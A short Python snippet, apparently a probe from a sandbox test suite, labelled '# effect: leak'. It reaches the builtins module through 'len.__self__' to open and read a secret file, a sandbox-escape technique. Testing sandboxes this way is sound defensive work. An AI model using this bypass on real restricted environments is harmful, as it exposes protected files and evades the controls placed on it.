# effect: leak
def attempt(probe):
    return [
        len.__self__.open(probe["secret_file"]).read() for _getattr_ in [getattr]
    ][0]
